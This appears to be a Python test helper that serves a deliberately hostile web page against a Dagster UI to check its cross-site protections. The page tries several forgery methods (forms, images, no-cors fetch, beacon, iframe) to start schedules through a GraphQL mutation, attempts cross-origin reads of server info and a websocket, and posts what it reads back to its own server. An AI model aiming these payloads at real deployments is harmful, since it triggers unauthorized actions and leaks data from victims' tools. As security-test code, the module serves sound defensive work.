"""A web page of somebody else that tries to press buttons in Dagster's UI, and the server that it comes from."""

import json
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from urllib.parse import quote

#: By what means the page tries; each has a schedule of its own, so that one sees which succeeded.
MEANS = ("image", "urlencoded", "multipart", "plain", "nocors", "simple", "beacon", "frame")
#: And what it tries to read, which it tells its own server.
READING = ("websocket", "fetch")

START = """mutation { startSchedule(scheduleSelector: {repositoryName: "__repository__", repositoryLocationName: "defs.py",
scheduleName: "%s"}) { __typename } }"""

_FORM = """<iframe name="in_{name}"></iframe>
<form id="{name}" action="{address}" method="post" enctype="{kind}" target="in_{name}"><input name="a" value="b"></form>"""
_PAGE = """<!doctype html><title>cats</title><img src="{image}">{forms}<iframe src="{frame}"></iframe>
<script>
for (const form of document.forms) form.submit();
const told = {{}};
const tell = async (name, what) => {{
  told[name] = what;
  if (Object.keys(told).length === {count}) {{
    await new Promise(done => setTimeout(done, 3000));  // for what answers nobody
    fetch("/told", {{method: "POST", body: JSON.stringify(told)}});
  }}
}};
fetch("{nocors}", {{method: "POST", mode: "no-cors", credentials: "include", body: "x"}});
fetch("{simple}", {{method: "POST", headers: {{"Content-Type": "text/plain"}}, body: "x"}}).catch(() => 0);
navigator.sendBeacon("{beacon}", "x");
fetch("{ui}/server_info").then(answer => answer.text()).then(text => tell("fetch", text), error => tell("fetch", ""));
const socket = new WebSocket("{ws}/graphql", "graphql-ws");
socket.onopen = () => socket.send(JSON.stringify({{type: "connection_init"}}));
socket.onmessage = message => tell("websocket", message.data);
socket.onerror = () => tell("websocket", "");
</script>"""


def page(ui: str) -> str:
    """The page, against the UI at this address."""
    at = {name: f"{ui}/graphql?query={quote(START % name)}" for name in MEANS}
    kinds = {
        "urlencoded": "application/x-www-form-urlencoded",
        "multipart": "multipart/form-data",
        "plain": "text/plain",
    }
    forms = "".join(_FORM.format(name=name, address=at[name], kind=kind) for name, kind in kinds.items())
    rest = {name: at[name] for name in MEANS if name not in kinds}
    return _PAGE.format(ui=ui, ws=ui.replace("http:", "ws:"), forms=forms, count=len(READING), **rest)


class Attacker(ThreadingHTTPServer):
    """Serves the page, and keeps what it tells."""

    told: dict[str, str] | None = None

    def __init__(self, ui: str) -> None:
        html = page(ui).encode()

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                self._answer(html)

            def do_POST(self) -> None:
                said = json.loads(self.rfile.read(int(self.headers["Content-Length"])))
                self.server.told = said  # type: ignore[attr-defined]
                self._answer(b"")

            def _answer(self, body: bytes) -> None:
                self.send_response(200)
                self.send_header("Content-Type", "text/html")
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            def log_message(self, format: str, *args: object) -> None:
                pass

        super().__init__(("127.0.0.1", 0), Handler)


@contextmanager
def attacker(ui: str) -> Iterator[Attacker]:
    """The attacker's server, on a port of loopback."""
    server = Attacker(ui)
    thread = threading.Thread(target=server.serve_forever)
    thread.start()
    try:
        yield server
    finally:
        server.shutdown()
        thread.join()
        server.server_close()
